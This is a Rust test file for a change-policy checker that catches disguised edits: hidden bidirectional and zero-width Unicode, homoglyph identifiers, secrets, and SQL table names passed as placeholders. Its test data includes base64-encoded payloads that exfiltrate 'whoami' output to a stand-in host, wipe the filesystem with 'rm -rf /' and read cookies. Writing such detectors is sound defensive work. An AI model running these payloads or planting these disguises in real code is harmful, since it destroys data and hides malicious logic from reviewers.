//! What may not be added, and what may.

use conclave_core::path::RelPath;

use super::*;

/// What is wrong with a change of the file at `path`.
fn check(path: &str, before: &str, after: &str) -> Option<String> {
    let path = RelPath::new(path).expect("a path");
    fault(&[Change { path: &path, before, after }])
}

fn adds(path: &str, line: &str) -> Option<String> {
    check(path, "first = 1\n", &format!("first = 1\n{line}\n"))
}

/// A line of each language with a name, a text and a remark.
const LANGUAGES: [(&str, &str); 4] = [
    ("a.py", "is_admin = role == 'user'  # check the role"),
    ("a.js", "const isAdmin = role === 'user'; // check the role"),
    ("a.ts", "const isAdmin: boolean = role === 'user'; // check the role"),
    ("A.java", "boolean isAdmin = role.equals(\"user\"); // check the role"),
];

/// Changes that read otherwise than they run, as published attacks on source code do it: one for each character, place
/// and language.
fn trojans() -> Vec<(&'static str, String)> {
    let hidden = "\u{61c}\u{200e}\u{200f}\u{202a}\u{202b}\u{202c}\u{202d}\u{202e}\u{2066}\u{2067}\u{2068}\u{2069}\u{200b}\u{200c}\u{200d}\u{2060}\u{feff}\u{ad}\u{34f}\u{180e}\u{3164}\u{115f}\u{ffa0}\u{2028}\u{2029}\u{2062}\u{e0001}\u{e0041}\u{e007f}\u{fe0f}\u{fe00}\u{e0100}\u{e01ef}\u{8}\u{1b}\u{0}";
    // Each stands for the letter beside it.
    let twins = [
        ('a', 'а'),
        ('e', 'е'),
        ('i', 'і'),
        ('o', 'ο'),
        ('s', 'ѕ'),
        ('r', 'г'),
        ('m', 'м'),
        ('d', 'ԁ'),
        ('u', 'υ'),
        ('o', 'օ'),
        ('e', 'ｅ'),
        ('r', '𝐫'),
        ('s', 'ſ'),
        ('l', 'Ⅼ'),
    ];
    let mut samples = Vec::new();
    for (path, line) in LANGUAGES {
        for c in hidden.chars() {
            // In a name, in a text, in a remark.
            for at in ["dmin", "ser", "he role"] {
                samples.push((path, line.replacen(at, &format!("{c}{at}"), 1)));
            }
        }
        for (plain, twin) in twins {
            samples.push((path, line.replacen(plain, &twin.to_string(), 1)));
        }
        for script in ["ѕсоре", "аdmin", "ехес", "ΑΒ", "𝓮𝓿𝓪𝓵", "ｅｖａｌ"] {
            samples.push((path, line.replacen("role", script, 1)));
        }
    }
    samples.retain(|(path, line)| !LANGUAGES.contains(&(path, line)));
    samples
}

#[test]
fn every_disguise_is_seen() {
    let samples = trojans();
    let missed: Vec<_> = samples.iter().filter(|(path, line)| adds(path, line).is_none()).collect();
    println!("disguised lines: {} of {} flagged", samples.len() - missed.len(), samples.len());
    assert!(samples.len() >= 60);
    assert_eq!(missed, Vec::<&(&str, String)>::new());
}

#[test]
fn what_the_file_uses_already_may_be_used() {
    for (before, line) in [
        ("name = 'a\u{200d}b'\n", "other = 'c\u{200d}d'"),
        ("цена = 1\n", "скидка = 2"),
        ("s = 'Ошибка'\n", "t = 'сор'"),
        ("# \u{2066}a\u{2069}\n", "# \u{2066}b\u{2069}"),
    ] {
        assert_eq!(check("a.py", before, &format!("{before}{line}\n")), None, "{line}");
    }
}

#[test]
fn remarks_and_texts_of_every_language_are_no_disguise() {
    let lines = [
        "# Prüft, ob der Schlüssel gültig ist",
        "# Vérifie l’accès avant l’écriture — à compléter",
        "# Comprueba el año y la contraseña",
        "# Não confie na entrada do usuário",
        "# Sprawdź, czy żądanie jest poprawne",
        "# Kontrola přístupu ke složce, příliš žluťoučký kůň",
        "# Kullanıcının yetkisini doğrula",
        "# Проверяем, что у пользователя есть доступ",
        "# не так: а и о с у",
        "# Перевіряємо доступ до файлу",
        "# Ελέγχει αν ο χρήστης έχει πρόσβαση",
        "# 检查用户是否有权限",
        "# ユーザーの権限を確認する",
        "# 사용자의 권한을 확인한다",
        "# يتحقق من صلاحية المستخدم",
        "# בודק את ההרשאה של המשתמש",
        "# उपयोगकर्ता की अनुमति जाँचता है",
        "# ตรวจสอบสิทธิ์ของผู้ใช้",
        "# Kiểm tra quyền của người dùng",
        "# Ստուգում է օգտվողի իրավունքը",
        "# naïve café — “quoted” … 10 µs ≤ 3 × 4 °C, 50 €, ±1, → next",
        "x = 'Ünïcödé'",
        "message = 'Доступ запрещён'",
        "message = 'アクセスが拒否されました'",
        "größe = 3",
        "naïve = True",
        "λ = 1  # emoji 🚀 in a remark",
    ];
    let alarms: Vec<_> = lines.iter().filter_map(|line| Some((line, adds("a.py", line)?))).collect();
    println!("false alarms on remarks and texts of other languages: {} of {}", alarms.len(), lines.len());
    // A single Greek letter as a name of the program is what a disguise looks like.
    assert!(alarms.iter().all(|(line, _)| line.starts_with('λ')), "{alarms:?}");
}

#[test]
fn secrets_and_encoded_texts_have_no_place_in_a_fix() {
    use conclave_policy::secret::sample;
    let key = sample::generate(sample::formats().next().expect("a format"), 7).expect("a sample");
    let blob = "aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKTtpbXBvcnQgdXJsbGliLnJlcXVlc3Q7dXJsbGliLnJlcXVlc3QudXJsb3BlbignaHR0cDovL2UvJytvcy5wb3Blbignd2hvYW1pJykucmVhZCgpKQ==";
    for line in [
        format!("client = connect('{key}')"),
        format!("exec(base64.b64decode('{blob}'))"),
        format!("x = '{blob}'"),
        "run(b64decode('cm0gLXJmIC8gJiYgZWNobw=='))".to_owned(),
        "eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))".to_owned(),
        format!("x = '{}'", "deadbeef".repeat(20)),
        r"x = '\x69\x6d\x70\x6f\x72\x74\x20\x6f\x73'".to_owned(),
        "x = String.fromCharCode(97, 108, 101, 114, 116)".to_owned(),
        "x = chr(105) + chr(109) + chr(112) + chr(111)".to_owned(),
        format!("x = [{}]", "105, 109, ".repeat(20)),
    ] {
        assert!(adds("a.py", &line).is_some(), "{line}");
        assert_eq!(check("a.py", &format!("{line}\n"), &format!("{line}\ny = 1\n")), None, "it stood there: {line}");
    }
    for line in [
        "from cryptography.hazmat.primitives.kdf.pbkdf2 import PBKDF2HMAC",
        "factory.setFeature(\"http://apache.org/xml/features/disallow-doctype-decl\", true);",
        "digest = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'",
        "user, password = base64.b64decode(header).decode().split(':')",
        "SECRET_KEY = os.environ['APPLICATION_SECRET_KEY']",
        "ALLOWED = {'image/png', 'image/jpeg', 'application/vnd.openxmlformats-officedocument'}",
        "ports = [80, 443, 8080]",
        "pattern = re.compile(r'^[A-Za-z0-9_.-]{1,64}$')",
        "const { timingSafeEqual, createHmac, randomBytes } = require('node:crypto');",
        "/usr/local/share/ca-certificates/internal-root-authority-2026.crt",
    ] {
        assert_eq!(adds("a.py", line), None, "{line}");
    }
}

#[test]
fn a_placeholder_does_not_stand_for_a_name() {
    for (line, refused) in [
        ("db.execute('SELECT * FROM ? WHERE id = ?', (table, id))", true),
        ("db.execute('SELECT ? FROM ?.? WHERE ? = ?', values)", true),
        ("cur.execute('DELETE FROM %s WHERE id = %s', (table, id))", true),
        ("client.query('SELECT * FROM t ORDER BY $1', [column])", true),
        ("db.run('UPDATE ? SET a = ?', [t, a])", true),
        ("db.run('UPDATE t SET ? = ?', [t, a])", true),
        ("db.execute('INSERT INTO :table (a) VALUES (:a)', values)", true),
        ("db.execute('SELECT * FROM t WHERE id = ?', (id,))", false),
        ("db.execute('SELECT * FROM t WHERE id = %s', (id,))", false),
        ("db.execute('SELECT * FROM %s WHERE id = ?' % quoted(table), (id,))", false),
        ("client.query('SELECT * FROM t WHERE id = $1', [id])", false),
        ("db.execute('SELECT EXTRACT(YEAR FROM ?) FROM t', (day,))", false),
        ("db.execute('SELECT a FROM t WHERE b IS DISTINCT FROM ?', (b,))", false),
        ("db.execute('INSERT INTO t (a, b) VALUES (?, ?)', (a, b))", false),
        ("db.execute('SELECT a FROM t LIMIT ? OFFSET ?', (n, m))", false),
        ("// from ? to ?", false),
    ] {
        let found = adds("a.py", line);
        assert_eq!(found.as_deref().is_some_and(|why| why.contains("where a name")), refused, "{line}: {found:?}");
    }
}

#[test]
fn white_space_alone_is_no_fix() {
    let lines = |indent: &str, end: &str| (0..12).map(|n| format!("{indent}call_{n}(a){end}\n")).collect::<String>();
    let fix = |text: String| text.replace("call_3(a)", "call_3([a])");
    for (what, before, after, refused) in [
        ("one line", lines("    ", ""), fix(lines("    ", "")), false),
        ("tabs become blanks", lines("\t", ""), fix(lines("    ", "")), true),
        ("line endings", lines("    ", ""), fix(lines("    ", "\r")), true),
        ("blanks at the end", lines("    ", ""), fix(lines("    ", "  ")), true),
        ("deeper for no reason", lines("", ""), fix(lines("  ", "")), true),
        ("into a block", lines("", ""), format!("with lock:\n{}", fix(lines("    ", ""))), false),
        ("out of a block", format!("if a:\n{}", lines("    ", "")), fix(lines("", "")), false),
        ("braces", lines("", ""), format!("if (a) {{\n{}}}\n", fix(lines("  ", ""))), false),
    ] {
        assert_eq!(check("a.py", &before, &after).is_some(), refused, "{what}");
    }
}

#[test]
fn a_promise_of_code_is_no_code() {
    let before = "def f(a):\n    b = a + 1\n    return b\n";
    let after = "def f(a):\n    # ... existing code ...\n    return int(b)\n";
    assert!(check("a.py", before, after).is_some_and(|why| why.contains("a remark that code was there")));
    assert_eq!(check("a.py", after, &after.replace("int(b)", "b")), None, "the remark stood there");
}
